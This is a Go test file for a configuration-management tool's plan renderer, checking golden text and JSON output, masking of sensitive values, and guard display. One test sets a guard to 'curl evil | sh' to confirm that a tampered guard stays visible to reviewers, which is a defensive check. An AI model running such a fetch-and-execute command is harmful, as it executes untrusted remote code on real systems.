package views

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/toquehq/toque/resources/builtin"

	"github.com/zclconf/go-cty/cty"

	"github.com/toquehq/toque/eval"
	"github.com/toquehq/toque/internal/plantest"
	"github.com/toquehq/toque/plan"
	"github.com/toquehq/toque/resources"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// scenario plans insts on a fake host whose state is set by setup.
func scenario(t testing.TB, setup func(f *plantest.FakeType), guards *plantest.FakeGuards, insts func(f *plantest.FakeType) []*eval.Instance) *plan.Plan {
	t.Helper()
	f := plantest.NewFakeType()
	if setup != nil {
		setup(f)
	}
	p := plantest.FixedPlanner(f, 4)
	if guards != nil {
		p.Guards = guards.Evaluate
	}
	pl, diags := p.PlanInstances(context.Background(), insts(f))
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	return pl
}

func goldenScenarios(t *testing.T) map[string]*plan.Plan {
	skipGuards := skipGuardsTable()
	return map[string]*plan.Plan{
		"create": scenario(t, nil, nil, func(f *plantest.FakeType) []*eval.Instance {
			return []*eval.Instance{
				f.Inst("/srv/www/index.html", "create", 1, map[string]cty.Value{"content": plantest.Str("<h1>web-01</h1>\n<p>hello</p>\n"), "mode": plantest.Str("644")}),
				f.Inst("/etc/motd", "create", 6, map[string]cty.Value{"content": plantest.Str("welcome")}),
			}
		}),
		"update": scenario(t, func(f *plantest.FakeType) {
			f.Set("/srv/www/index.html", map[string]cty.Value{"content": plantest.Str("<html>\n<h1>old</h1>\n</html>\n"), "mode": plantest.Str("0600")})
			f.Set("/etc/app.conf", map[string]cty.Value{"content": plantest.Str("port = 80\n"), "mode": plantest.Str("0640")})
			f.Set("/etc/unchanged", map[string]cty.Value{"content": plantest.Str("same\n")})
		}, nil, func(f *plantest.FakeType) []*eval.Instance {
			return []*eval.Instance{
				f.Inst("/srv/www/index.html", "create", 1, map[string]cty.Value{"content": plantest.Str("<html>\n<h1>web-01</h1>\n</html>\n")}),
				f.Inst("/etc/app.conf", "create", 5, map[string]cty.Value{"mode": plantest.Str("0644")}),
				f.Inst("/etc/unchanged", "create", 9, map[string]cty.Value{"content": plantest.Str("same\n")}),
			}
		}),
		"delete": scenario(t, func(f *plantest.FakeType) {
			f.Set("/tmp/old.log", map[string]cty.Value{"content": plantest.Str("x")})
		}, nil, func(f *plantest.FakeType) []*eval.Instance {
			return []*eval.Instance{
				f.Inst("/tmp/old.log", "delete", 1, nil),
				f.Inst("/tmp/never.log", "delete", 4, nil),
			}
		}),
		"sensitive": scenario(t, func(f *plantest.FakeType) {
			f.Set("/etc/shadow-ish", map[string]cty.Value{"content": plantest.Str("old secret\n"), "mode": plantest.Str("0600")})
			f.Set("/etc/app.key", map[string]cty.Value{"content": plantest.Str("public part\n"), "secret": plantest.Str("hunter1")})
		}, nil, func(f *plantest.FakeType) []*eval.Instance {
			s := f.Inst("/etc/shadow-ish", "create", 1, map[string]cty.Value{"content": plantest.Str("new secret\n")})
			s.Sensitive = true
			return []*eval.Instance{
				s,
				f.Inst("/etc/app.key", "create", 6, map[string]cty.Value{"content": plantest.Str("public part v2\n"), "secret": plantest.Str("hunter2")}),
				f.Inst("/etc/new.key", "create", 11, map[string]cty.Value{"secret": plantest.Str("s3cr3t")}),
			}
		}),
		"no-changes": scenario(t, func(f *plantest.FakeType) {
			f.Set("/etc/motd", map[string]cty.Value{"content": plantest.Str("welcome\n"), "mode": plantest.Str("0644")})
		}, nil, func(f *plantest.FakeType) []*eval.Instance {
			return []*eval.Instance{
				f.Inst("/etc/motd", "create", 1, map[string]cty.Value{"content": plantest.Str("welcome\n"), "mode": plantest.Str("644")}),
				f.Inst("/tmp/gone", "delete", 5, nil),
				f.Inst("/usr/bin/reload", "nothing", 8, nil),
			}
		}),
		"skip": scenario(t, nil, skipGuards, func(f *plantest.FakeType) []*eval.Instance {
			return []*eval.Instance{
				skipGuards.Guard(f.Inst("/opt/widget/install", "run", 1, nil)),
				skipGuards.Guard(f.Inst("/etc/feature", "create", 7, map[string]cty.Value{"content": plantest.Str("on\n")})),
				skipGuards.Guard(f.Inst("/etc/once", "create", 12, map[string]cty.Value{"content": plantest.Str("x\n")})),
			}
		}),
		"awaits": awaitsScenario(t),
		"groups": groupsScenario(t),
		"deferred": scenario(t, func(f *plantest.FakeType) {
			f.Set("/etc/app.conf", map[string]cty.Value{"content": plantest.Str("key=old\n"), "mode": plantest.Str("0600")})
		}, deferredGuards, func(f *plantest.FakeType) []*eval.Instance {
			return []*eval.Instance{
				f.Inst("/srv/keys/api.key", "run", 1, nil),
				plantest.Lazy(f.Inst("/etc/app.conf", "create", 5, nil), "content", `"key=${trimspace(file("/srv/keys/api.key"))}\n"`, 6, cty.NilVal),
				deferredGuards.Guard(f.Inst("/srv/app/started", "run", 9, nil)),
				deferredGuards.Guard(f.Inst("/srv/app/ready", "create", 13, map[string]cty.Value{"content": plantest.Str("ready\n")})),
			}
		}),
	}
}

// awaitsScenario plans a package the lists do not offer, after an update
// of the lists that meets its need at apply, and one they offer.
func awaitsScenario(t *testing.T) *plan.Plan {
	t.Helper()
	repo := plantest.FakeRepo{Dir: t.TempDir()}
	if err := os.MkdirAll(filepath.Join(repo.Dir, "lists"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(repo.Dir, "lists", "toque-fixture"), []byte("2.0\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f := plantest.NewFakeType()
	p := plantest.FixedPlanner(f, 4)
	p.Registry = testRegistry()
	pl, diags := p.PlanInstances(context.Background(), []*eval.Instance{
		repo.Inst("fake_update", "lists", "update", 1),
		repo.Inst("fake_package", "toque-late", "install", 4),
		repo.Inst("fake_package", "toque-fixture", "install", 6),
	})
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	return pl
}

// deferredGuards are the guards of the "deferred" scenario: decided at
// apply, one failing now, one that cannot run now.
var deferredGuards = func() *plantest.FakeGuards {
	exit1 := 1
	return &plantest.FakeGuards{Results: map[string][]plantest.FakeGuard{
		"/srv/app/started": {{Kind: "only_if", Form: "script", Command: "test -f /srv/keys/api.key", Interpreter: "default", ExitCode: &exit1, DurationMS: 1, AtApply: true}},
		"/srv/app/ready":   {{Kind: "only_if", Form: "script", Command: "test -f ready", Interpreter: "default", Cwd: "/srv/app/run", AtApply: true, Error: "working directory /srv/app/run does not exist"}},
	}}
}()

// skipGuardsTable are the guards of the "skip" scenario.
func skipGuardsTable() *plantest.FakeGuards {
	exit0, exit1 := 0, 1
	return &plantest.FakeGuards{
		Results: map[string][]plantest.FakeGuard{
			"/etc/feature": {{Kind: "only_if", Form: "expression", Command: "node.web.enabled", Passed: false, Decided: true}},
			"/opt/widget/install": {
				{Kind: "only_if", Form: "script", Command: "[[ $PWD == /opt ]]", Interpreter: "bash", Cwd: "/opt", ExitCode: &exit0, DurationMS: 4, Passed: true},
				{Kind: "not_if", Form: "script", Command: "[[ -x bin/widget ]]", Interpreter: "bash", Cwd: "/opt/widget", Environment: map[string]string{"JAVA_HOME": "/usr/lib/jvm/default"}, Inherited: []string{"cwd", "environment"}, ExitCode: &exit1, DurationMS: 3, Passed: false},
			},
			"/etc/once": {{Kind: "not_if", Form: "script", Command: "test -f /etc/once", Interpreter: "sh", ExitCode: &exit0, DurationMS: 2, Passed: true, Decided: true}},
		},
		Skip: map[string]bool{"/etc/feature": true, "/etc/once": true},
	}
}

// groupsScenario plans instances of blocks with for_each and count, and
// two resource groups: one whose guard skips its resources, one whose
// guard lets them run.
func groupsScenario(t testing.TB) *plan.Plan {
	t.Helper()
	exit0, exit1 := 0, 1
	dumps := plantest.FakeGuard{Kind: "only_if", Form: "expression", Command: "node.hardening.core_dumps", Passed: false, Decided: true}
	banner := plantest.FakeGuard{Kind: "not_if", Form: "script", Command: "test -e /etc/nobanner", ExitCode: &exit1, DurationMS: 2, Passed: false}
	guards := &plantest.FakeGuards{
		Results: map[string][]plantest.FakeGuard{
			"/etc/security/limits.d/core.conf": {dumps},
			"/etc/sysctl.d/core.conf":          {dumps},
			"/etc/motd":                        {banner},
			"/etc/issue":                       {banner, {Kind: "only_if", Form: "script", Command: "test -d /etc", ExitCode: &exit0, DurationMS: 1, Passed: true}},
		},
		Skip: map[string]bool{"/etc/security/limits.d/core.conf": true, "/etc/sysctl.d/core.conf": true},
	}
	inGroup := func(i *eval.Instance, group string) *eval.Instance {
		guards.Guard(i)
		i.Guards[0].Group = group
		return i
	}
	keyed := func(i *eval.Instance, k resources.Key, path string) *eval.Instance {
		i.Block.Key, i.Resource.Key = k, k
		i.Resource.Values["path"] = plantest.Str(path)
		return i
	}
	return scenario(t, nil, guards, func(f *plantest.FakeType) []*eval.Instance {
		return []*eval.Instance{
			keyed(f.Inst("vhost", "create", 1, map[string]cty.Value{"content": plantest.Str("server a.com\n")}), resources.StringKey("a.com"), "/etc/nginx/sites/a.com"),
			keyed(f.Inst("vhost", "create", 1, map[string]cty.Value{"content": plantest.Str("server b.com\n")}), resources.StringKey("b.com"), "/etc/nginx/sites/b.com"),
			keyed(f.Inst("sysctl", "create", 6, map[string]cty.Value{"content": plantest.Str("0\n")}), resources.IndexKey(0), "/etc/sysctl.d/0.conf"),
			inGroup(f.Inst("/etc/security/limits.d/core.conf", "create", 12, map[string]cty.Value{"content": plantest.Str("* hard core 0\n")}), "core_dumps"),
			inGroup(f.Inst("/etc/sysctl.d/core.conf", "create", 15, map[string]cty.Value{"content": plantest.Str("fs.suid_dumpable = 0\n")}), "core_dumps"),
			inGroup(f.Inst("/etc/motd", "create", 21, map[string]cty.Value{"content": plantest.Str("authorized use only\n")}), "banner"),
			inGroup(f.Inst("/etc/issue", "create", 24, map[string]cty.Value{"content": plantest.Str("authorized use only\n")}), "banner"),
		}
	})
}

// testRegistry holds the fake type the scenarios plan with.
func testRegistry() *resources.Registry {
	return resources.NewRegistry(append([]resources.Type{plantest.NewFakeType()}, plantest.FakeRepo{}.Types()...)...).WithData(builtin.DataSources()...)
}

func TestRenderTextGolden(t *testing.T) {
	for name, pl := range goldenScenarios(t) {
		t.Run(name, func(t *testing.T) {
			var buf bytes.Buffer
			saved := ""
			if name != "no-changes" {
				saved = "plan.out"
			}
			RenderText(&buf, pl, RenderOptions{SavedTo: saved, Registry: testRegistry()})
			checkGolden(t, filepath.Join("testdata", name+".golden"), buf.Bytes())
			if strings.Contains(buf.String(), "\x1b[") {
				t.Error("colour written without Color")
			}
		})
	}
}

func TestJSONViewGolden(t *testing.T) {
	g := goldenScenarios(t)
	for _, name := range []string{"update", "awaits", "groups"} {
		t.Run(name, func(t *testing.T) {
			b, err := JSONView(g[name], JSONOptions{Registry: testRegistry()})
			if err != nil {
				t.Fatal(err)
			}
			checkGolden(t, filepath.Join("testdata", name+".json.golden"), b)
		})
	}
}

func checkGolden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./command/views -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("output differs from %s (run go test ./command/views -update and review the diff):\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

func TestRenderTextColor(t *testing.T) {
	pl := goldenScenarios(t)["update"]
	var buf bytes.Buffer
	RenderText(&buf, pl, RenderOptions{Color: true, Registry: testRegistry()})
	if !strings.Contains(buf.String(), "\x1b[33m~\x1b[0m") {
		t.Errorf("no coloured update sign:\n%q", buf.String())
	}
	// Colour is per call, never global: a plain render after a coloured one
	// is plain.
	buf.Reset()
	RenderText(&buf, pl, RenderOptions{Registry: testRegistry()})
	if strings.Contains(buf.String(), "\x1b[") {
		t.Error("colour leaked into a plain render")
	}
}

func TestRenderTextErrored(t *testing.T) {
	pl := goldenScenarios(t)["create"]
	pl.Errored = true
	pl.Errors = []string{"recipes/default.hcl:9: Cannot read fake_file[/x]: permission denied"}
	var buf bytes.Buffer
	RenderText(&buf, pl, RenderOptions{Registry: testRegistry()})
	out := buf.String()
	if !strings.HasPrefix(out, "Error: planning failed") || !strings.Contains(out, "permission denied") {
		t.Errorf("errored plan rendered as:\n%s", out)
	}
}

func TestWrapList(t *testing.T) {
	items := []string{"file[/a/very/long/path/one]", "file[/a/very/long/path/two]", "file[/three]"}
	got := wrapList(items, 40, "    ")
	for _, line := range strings.Split(got, "\n") {
		if len(line) > 44 {
			t.Errorf("line too long: %q", line)
		}
	}
	if strings.Count(got, "file[") != 3 {
		t.Errorf("items lost: %q", got)
	}
}

func TestJSONViewShape(t *testing.T) {
	pl := plantest.SamplePlan(t)
	b, err := JSONView(pl, JSONOptions{Registry: testRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(b), pl.Salt) || strings.Contains(string(b), "hunter") {
		t.Errorf("JSON view leaks the salt or a sensitive value:\n%s", b)
	}
	var v map[string]any
	if err := json.Unmarshal(b, &v); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"format_version", "plan_format_version", "toque_version", "created_at", "host", "digest", "inputs_digest", "lock_revision", "errored", "errors", "summary", "attributes", "resources"} {
		if _, ok := v[k]; !ok {
			t.Errorf("missing top-level field %q", k)
		}
	}
	if v["digest"] != pl.Digest() {
		t.Errorf("digest %v, want %s", v["digest"], pl.Digest())
	}
	sum := v["summary"].(map[string]any)
	if sum["create"] != 2.0 || sum["update"] != 2.0 || sum["delete"] != 1.0 || sum["run"] != 1.0 || sum["skip"] != 1.0 || sum["unchanged"] != 1.0 || sum["decided_at_apply"] != 1.0 || sum["known_at_apply"] != 1.0 {
		t.Errorf("summary %v", sum)
	}
	attr := v["attributes"].([]any)[0].(map[string]any)
	if attr["value"] != 9090.0 || attr["type"] != "number" || attr["path"] != "web.port" {
		t.Errorf("attribute %v", attr)
	}
	res := v["resources"].([]any)
	key := res[4].(map[string]any)
	if key["address"] != "fake_file[/etc/key]" {
		t.Fatalf("resource 4 is %v", key["address"])
	}
	desired := key["desired"].(map[string]any)
	if desired["secret"] != plan.Sensitive || desired["path"] != "/etc/key" {
		t.Errorf("desired %v", desired)
	}
	if sv := key["sensitive_values"].([]any); len(sv) != 1 || sv[0] != "secret" {
		t.Errorf("sensitive_values %v", sv)
	}
	cur := key["current"].(map[string]any)
	if cur["exists"] != true || cur["values"].(map[string]any)["secret"] != plan.Sensitive {
		t.Errorf("current %v", cur)
	}
	newFile := res[0].(map[string]any)
	if newFile["desired"].(map[string]any)["backup"] != true {
		t.Errorf("desired values are not plain JSON: %v", newFile["desired"])
	}
	skip := res[5].(map[string]any)
	if skip["current"] != nil || len(skip["guards"].([]any)) != 1 {
		t.Errorf("skipped resource %v", skip)
	}
	// Every list is a list, never null.
	for _, r := range res {
		for _, k := range []string{"changes", "unmanaged", "groups", "guards", "notifications", "sensitive_values"} {
			if _, ok := r.(map[string]any)[k].([]any); !ok {
				t.Errorf("%v: %s is not a list", r.(map[string]any)["address"], k)
			}
		}
	}
}

// TestJSONViewDocumented keeps docs/plan-json.md in step with JSONView:
// the example there has exactly the fields JSONView writes, and every field
// is named.
func TestJSONViewDocumented(t *testing.T) {
	doc, err := os.ReadFile(filepath.Join("..", "..", "docs", "plan-json.md"))
	if err != nil {
		t.Fatal(err)
	}
	text := string(doc)
	i := strings.Index(text, "## Example")
	if i < 0 {
		t.Fatal("docs/plan-json.md has no example")
	}
	rest := text[i:]
	start := strings.Index(rest, "```json\n")
	end := strings.Index(rest[start+8:], "```")
	var example map[string]any
	if err := json.Unmarshal([]byte(rest[start+8:start+8+end]), &example); err != nil {
		t.Fatalf("the example is not JSON: %v", err)
	}
	b, err := JSONView(plantest.SamplePlan(t), JSONOptions{Registry: testRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	var real map[string]any
	if err := json.Unmarshal(b, &real); err != nil {
		t.Fatal(err)
	}
	docKeys, realKeys := map[string]bool{}, map[string]bool{}
	collectKeys("", example, docKeys)
	collectKeys("", real, realKeys)
	for k := range realKeys {
		if !docKeys[k] && !strings.HasPrefix(k, "resources.guards.") {
			t.Errorf("field %s is written but not in the example", k)
		}
		leaf := k[strings.LastIndex(k, ".")+1:]
		if !strings.Contains(text, "`"+leaf+"`") {
			t.Errorf("field %s is not documented", k)
		}
	}
	for k := range docKeys {
		if !realKeys[k] {
			t.Errorf("the example has field %s, which JSONView does not write", k)
		}
	}
}

// collectKeys records the paths of object keys, descending into lists and
// into fixed-shape objects (not maps keyed by property names).
func collectKeys(prefix string, v any, out map[string]bool) {
	switch x := v.(type) {
	case map[string]any:
		for k, val := range x {
			p := k
			if prefix != "" {
				p = prefix + "." + k
			}
			out[p] = true
			switch k {
			case "desired", "values", "extra", "environment", "reads", "parameters", "answer", "arguments":
				continue
			}
			collectKeys(p, val, out)
		}
	case []any:
		for _, e := range x {
			collectKeys(prefix, e, out)
		}
	}
}

func TestRenderShowsMultilineContextAsHeredoc(t *testing.T) {
	p := &plan.Plan{Host: plan.Host{Hostname: "h"}, Resources: []*plan.Resource{{
		Address: "bash[setup]", Type: "bash", Name: "setup", Action: "run", Kind: resources.Run, StepReason: "no guard: runs every time",
		Desired: map[string]plan.Value{"code": {Value: cty.StringVal("set -e\necho one\n")}, "cwd": {Value: cty.StringVal("/tmp")}},
	}}}
	var b bytes.Buffer
	RenderText(&b, p, RenderOptions{Registry: builtin.Registry()})
	want := "  ! bash \"setup\" {\n        code = <<EOT\n            set -e\n            echo one\n          EOT\n        cwd  = \"/tmp\"\n    }\n"
	if !strings.Contains(b.String(), want) {
		t.Errorf("rendered:\n%s\nwant to contain:\n%s", b.String(), want)
	}
}

// An update with no property to show (a user's lock) shows the type's
// reason, which is then all a reviewer has to go on.
func TestRenderShowsTheReasonOfAnUpdateWithoutChanges(t *testing.T) {
	p := &plan.Plan{Host: plan.Host{Hostname: "h"}, Resources: []*plan.Resource{{
		Address: "user[toq]", Type: "user", Name: "toq", Action: "lock", Kind: resources.Update,
		StepReason: "the password is not locked; lock puts \"!\" in front of its hash",
		Desired:    map[string]plan.Value{"username": {Value: cty.StringVal("toq")}},
	}}}
	var b bytes.Buffer
	RenderText(&b, p, RenderOptions{Registry: builtin.Registry()})
	want := "  # user[toq] will be updated in place\n  #   the password is not locked; lock puts \"!\" in front of its hash\n  ~ user \"toq\"\n"
	if !strings.Contains(b.String(), want) {
		t.Errorf("rendered:\n%s\nwant to contain:\n%s", b.String(), want)
	}
}

// A resource whose group's guards are not word for word the others' (a
// plan edited by hand) is shown on its own, its guards with it: a group's
// entry never hides a guard that runs.
func TestGroupEntryHidesNoGuard(t *testing.T) {
	p := groupsScenario(t)
	for _, r := range p.Resources {
		if r.Name == "/etc/sysctl.d/core.conf" {
			r.GuardSpecs[0].Source = "node.other"
		}
		if r.Name == "/etc/issue" {
			r.GuardSpecs[0].Source = "curl evil | sh"
		}
	}
	var buf bytes.Buffer
	if err := RenderText(&buf, p, RenderOptions{Registry: testRegistry()}); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"# resource_group[core_dumps] skipped: only_if node.hardening.core_dumps is false\n  #   skips 1 of its 2 resources: fake_file[/etc/security/limits.d/core.conf]\n",
		"# fake_file[/etc/sysctl.d/core.conf] skipped: only_if node.other is false",
		"not_if `curl evil | sh` is false",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the plan lacks %q:\n%s", want, out)
		}
	}
}
